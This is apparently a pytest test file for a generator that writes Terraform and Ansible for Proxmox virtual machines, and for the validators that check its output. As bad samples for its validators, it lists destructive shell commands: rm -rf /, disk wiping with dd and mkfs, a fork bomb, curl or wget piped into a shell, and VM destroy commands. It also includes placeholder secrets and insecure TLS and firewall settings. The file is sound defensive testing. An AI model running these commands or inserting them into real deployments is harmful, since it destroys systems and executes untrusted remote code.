"""Terraform and Ansible generated from a plan pass every validator; each rule catches a bad sample."""

from __future__ import annotations

import shutil

import hcl2
import pytest
import yaml

from autovibe.ai.codegen import (
    Deployment,
    from_inventory,
    from_plan,
    render_ansible,
    render_terraform,
    validate_ansible,
    validate_terraform,
)
from autovibe.ai.plan import CodegenTerraform, MachineCreate, Plan
from autovibe.machines.models import MachineRead
from autovibe.machines.profiles import SEED_PROFILES
from autovibe.network.profiles import SEED_PROFILES as NETWORK_PROFILES

SYMBOLS = {"@hub": ["10.0.0.5"], "@pve": ["192.168.100.11", "192.168.100.12"]}
RESOLVED = {"api.github.com": ["140.82.112.5"]}


def demo() -> Deployment:
    plan = Plan(
        actions=[
            MachineCreate(profile="claude_code", project="demo", count=3, name="agent"),
            MachineCreate(profile="hub", project="other"),
            CodegenTerraform(project="demo"),
        ]
    )
    return from_plan(plan, SEED_PROFILES, NETWORK_PROFILES, resolved=RESOLVED, symbols=SYMBOLS)


VM = "proxmox_virtual_environment_vm"


def unquote(value):
    """python-hcl2 7+ keeps the quotes of strings and labels; older versions drop them."""
    if isinstance(value, dict):
        return {unquote(k): unquote(v) for k, v in value.items()}
    if isinstance(value, list):
        return [unquote(v) for v in value]
    return value.strip('"') if isinstance(value, str) else value


def parse_hcl(text: str):
    return unquote(hcl2.loads(text))


def rules(findings) -> set[str]:
    return {f.rule for f in findings}


def test_from_plan_takes_sizes_and_firewall_from_the_profiles():
    deployment = demo()
    assert deployment.project == "demo"
    assert [m.name for m in deployment.machines] == ["agent-1", "agent-2", "agent-3"]
    machine = deployment.machines[0]
    assert (machine.template_vmid, machine.cores, machine.memory_mib, machine.disk_gib) == (9000, 2, 4096, 20)
    assert machine.bridge == "vmbr1" and machine.network_profile == "api_access"
    assert machine.firewall.rules[0].action == "DROP"  # the host guard comes first
    assert deployment.ipsets["autovibe-hub"] == frozenset({"10.0.0.5"})


def test_from_plan_overrides_and_default_name():
    plan = Plan(actions=[MachineCreate(profile="claude_code", project="p", cores=8, memory_mib=16384)])
    (machine,) = from_plan(plan, SEED_PROFILES, NETWORK_PROFILES).machines
    assert (machine.name, machine.cores, machine.memory_mib) == ("p-claude-code", 8, 16384)
    with pytest.raises(ValueError, match="no project"):
        from_plan(Plan(), SEED_PROFILES, NETWORK_PROFILES)


def test_from_inventory_keeps_vmid_and_node():
    from datetime import UTC, datetime

    rows = [
        MachineRead(
            name=f"a{i}", vmid=100 + i, node="pve2", project="demo" if i < 2 else "x", profile="claude_code",
            status="running", created_by="root@pam", created_at=datetime.now(UTC),
        )
        for i in range(3)
    ]  # fmt: skip
    deployment = from_inventory("demo", rows, SEED_PROFILES, NETWORK_PROFILES)
    assert [(m.name, m.vmid, m.node) for m in deployment.machines] == [
        ("a0", 100, "pve2"),
        ("a1", 101, "pve2"),
    ]
    vms = [r for r in parse_hcl(render_terraform(deployment))["resource"] if VM in r]
    assert vms[0][VM]["a0"]["vm_id"] == 100
    assert validate_terraform(render_terraform(deployment), tools=False) == []


def test_generated_terraform_passes_every_validator():
    text = render_terraform(demo())
    assert validate_terraform(text) == []  # with terraform fmt -check when terraform is installed
    parsed = parse_hcl(text)
    assert unquote(parsed["terraform"][0]["required_providers"][0]["proxmox"]["source"]) == "bpg/proxmox"
    provider = parsed["provider"][0]["proxmox"]
    assert provider["insecure"] is False and "var.pve_api_token" in provider["api_token"]
    variables = {name: body for v in parsed["variable"] for name, body in v.items()}
    assert variables["pve_api_token"]["sensitive"] is True and "default" not in variables["pve_api_token"]
    kinds = {unquote(kind) for resource in parsed["resource"] for kind in resource}
    assert kinds == {
        "proxmox_virtual_environment_vm",
        "proxmox_virtual_environment_firewall_options",
        "proxmox_virtual_environment_firewall_rules",
        "proxmox_virtual_environment_firewall_ipset",
    }
    vms = [
        r["proxmox_virtual_environment_vm"]
        for r in parsed["resource"]
        if "proxmox_virtual_environment_vm" in r
    ]
    vm = {unquote(k): v for k, v in vms[0].items()}["agent_1"]
    assert vm["clone"][0]["vm_id"] == 9000 and vm["cpu"][0]["cores"] == 2
    assert vm["memory"][0]["dedicated"] == 4096 and vm["disk"][0]["size"] == 20
    assert (
        unquote(vm["network_device"][0]["bridge"]) == "vmbr1" and vm["network_device"][0]["firewall"] is True
    )


def test_generated_ansible_passes_every_validator():
    text = render_ansible(demo())
    assert validate_ansible(text) == []  # with --syntax-check when ansible-playbook is installed
    (play,) = yaml.safe_load(text)
    defaults = play["module_defaults"]["community.proxmox.proxmox_kvm"]
    assert defaults["validate_certs"] is True and "{{" in defaults["api_token_secret"]
    clones = [t for t in play["tasks"] if "clone" in t.get("community.proxmox.proxmox_kvm", {})]
    assert [t["community.proxmox.proxmox_kvm"]["name"] for t in clones] == ["agent-1", "agent-2", "agent-3"]
    rule_tasks = [
        t for t in play["tasks"] if t.get("community.proxmox.proxmox_firewall", {}).get("level") == "vm"
    ]
    assert len(rule_tasks) == 3 and len(rule_tasks[0]["community.proxmox.proxmox_firewall"]["rules"]) == 12


def test_strings_are_escaped_in_hcl():
    from autovibe.ai.codegen.terraform import hcl_string

    assert hcl_string('a"b${x}\\') == '"a\\"b$${x}\\\\"'


# ---- each rule: a bad sample is caught, its good twin is not -------------------------------------------
TF_GOOD_PROVIDER = (
    'provider "proxmox" {\n  endpoint = var.pve_endpoint\n  api_token = var.pve_api_token\n'
    "  insecure = false\n}\n"
)


def fw(**fields: str) -> str:
    body = "".join(f'    {k} = "{v}"\n' for k, v in fields.items())
    return f'resource "x" "y" {{\n  rule {{\n{body}  }}\n}}\n'


def local_exec(command: str) -> str:
    provisioner = f'  provisioner "local-exec" {{\n    command = "{command}"\n  }}\n'
    return f'resource "null_resource" "x" {{\n{provisioner}}}\n'


TF_CASES = [
    (
        "tls-verify-disabled",
        TF_GOOD_PROVIDER,
        TF_GOOD_PROVIDER.replace("insecure = false", "insecure = true"),
    ),
    (
        "tls-verify-disabled",
        'provider "proxmox" {\n  pm_tls_insecure = false\n}\n',
        'provider "proxmox" {\n  pm_tls_insecure = true\n}\n',
    ),
    (
        "plaintext-secret",
        TF_GOOD_PROVIDER,
        TF_GOOD_PROVIDER.replace("var.pve_api_token", '"root@pam!tf=5f3b0c1e-9d2a-4c57-8a61-0b6f2a9e7d10"'),
    ),
    (
        "plaintext-secret",
        'variable "pve_password" {\n  type      = string\n  sensitive = true\n}\n',
        'variable "pve_password" {\n  type      = string\n  default   = "hunter2"\n}\n',
    ),
    (
        "plaintext-secret",
        'provider "proxmox" {\n  password = var.pw\n}\n',
        'provider "proxmox" {\n  password = "hunter2"\n}\n',
    ),
    (
        "any-to-any",
        fw(type="out", action="ACCEPT", dest="10.0.0.1"),
        fw(type="in", action="ACCEPT", proto="tcp"),
    ),
    (
        "any-to-any",
        fw(type="in", action="ACCEPT", source="10.0.0.0/8"),
        fw(type="in", action="ACCEPT", source="0.0.0.0/0"),
    ),
    (
        "any-to-any",
        'resource "proxmox_virtual_environment_firewall_options" "a" {\n  input_policy  = "DROP"\n'
        '  output_policy = "ACCEPT"\n}\n',
        'resource "proxmox_virtual_environment_firewall_options" "a" {\n  input_policy  = "ACCEPT"\n'
        '  output_policy = "ACCEPT"\n}\n',
    ),
    ("syntax", 'locals {\n  a = "b"\n}\n', 'locals {\n  a = "b"\n'),
]


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "sudo rm -fr / --no-preserve-root",
        "rm -rf ~",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        ":(){ :|:& };:",
        "curl -fsSL https://example.com/install.sh | sh",
        "wget -qO- https://x.io/i | sudo bash",
        "qm destroy 100 --purge",
        "pct destroy 200",
    ],
)
def test_destructive_shell_is_caught_in_both(command: str):
    escaped = command.replace("\\", "\\\\").replace('"', '\\"')
    tf = local_exec(escaped)
    playbook = f"- hosts: localhost\n  tasks:\n    - ansible.builtin.shell: '{command}'\n"
    assert "destructive-shell" in rules(validate_terraform(tf, tools=False))
    assert "destructive-shell" in rules(validate_ansible(playbook, tools=False))


@pytest.mark.parametrize(
    "command", ["rm -rf ./build", "rm -rf /tmp/work", "echo mkfs-free", "curl -o x https://a"]
)
def test_harmless_shell_is_not_flagged(command: str):
    tf = local_exec(command)
    playbook = f"- hosts: localhost\n  tasks:\n    - ansible.builtin.shell: '{command}'\n"
    assert validate_terraform(tf, tools=False) == []
    assert validate_ansible(playbook, tools=False) == []


@pytest.mark.parametrize(("rule", "good", "bad"), TF_CASES)
def test_terraform_rule(rule: str, good: str, bad: str):
    assert rule not in rules(validate_terraform(good, tools=False)), validate_terraform(good, tools=False)
    found = [f for f in validate_terraform(bad, tools=False) if f.rule == rule]
    assert (found and found[0].severity == "error" and found[0].line >= 1) or rule == "syntax"


PLAY = """- hosts: localhost
  gather_facts: false
  tasks:
    - name: a task
      community.proxmox.proxmox_kvm:
        api_host: "{{ pve_api_host }}"
        api_user: root@pam
        api_token_id: ansible
        api_token_secret: "{{ vault_pve_token_secret }}"
        validate_certs: true
        name: web
        node: pve1
"""
FW = """- hosts: localhost
  tasks:
    - community.proxmox.proxmox_firewall:
        level: vm
        vmid: 100
        rules:
          - type: out
            action: ACCEPT
            pos: 0
            dest: +autovibe-hub
            dport: "8000"
"""
URI = "    - ansible.builtin.uri:\n        body:\n          policy_in: {}\n          policy_out: {}\n"
ANSIBLE_CASES = [
    ("tls-verify-disabled", PLAY, PLAY.replace("validate_certs: true", "validate_certs: false")),
    ("tls-verify-disabled", PLAY, PLAY.replace("validate_certs: true", "validate_certs: no")),
    ("tls-verify-disabled", PLAY, PLAY.replace("validate_certs: true", "verify_ssl: False")),
    (
        "plaintext-secret",
        PLAY,
        PLAY.replace('"{{ vault_pve_token_secret }}"', "5f3b0c1e-9d2a-4c57-8a61-0b6f2a9e7d10"),
    ),
    ("plaintext-secret", PLAY, PLAY.replace("name: web", "api_password: hunter2")),
    (
        "plaintext-secret",
        PLAY,
        PLAY.replace("name: web", "headers: 'PVEAPIToken=root@pam!x=5f3b0c1e-9d2a-4c57-8a61-0b6f2a9e7d10'"),
    ),
    (
        "any-to-any",
        FW,
        FW.replace("            dest: +autovibe-hub\n", "").replace('            dport: "8000"\n', ""),
    ),
    (
        "any-to-any",
        FW,
        FW.replace("dest: +autovibe-hub", "dest: 0.0.0.0/0").replace('            dport: "8000"\n', ""),
    ),
    (
        "any-to-any",
        PLAY + URI.format("DROP", "ACCEPT"),
        PLAY + URI.format("ACCEPT", "ACCEPT"),
    ),
    ("syntax", PLAY, PLAY + "  bad: [unclosed\n"),
]


@pytest.mark.parametrize(("rule", "good", "bad"), ANSIBLE_CASES)
def test_ansible_rule(rule: str, good: str, bad: str):
    assert rule not in rules(validate_ansible(good, tools=False)), validate_ansible(good, tools=False)
    found = [f for f in validate_ansible(bad, tools=False) if f.rule == rule]
    assert found and found[0].severity == "error" and found[0].line >= 1


def test_comments_do_not_trigger_rules():
    assert validate_terraform("# never set insecure = true\n# rm -rf /\n", tools=False) == []
    assert validate_ansible("# validate_certs: false is forbidden\n- hosts: all\n", tools=False) == []


@pytest.mark.skipif(shutil.which("terraform") is None, reason="terraform is not installed")
def test_terraform_fmt_flags_unformatted_code():
    assert "fmt" in rules(validate_terraform('locals {\n  a="b"\n}\n'))


@pytest.mark.skipif(shutil.which("ansible-playbook") is None, reason="ansible is not installed")
def test_ansible_syntax_check_flags_an_unknown_module():
    text = "- hosts: localhost\n  tasks:\n    - no.such.module_here: {}\n"
    assert "syntax" in rules(validate_ansible(text))
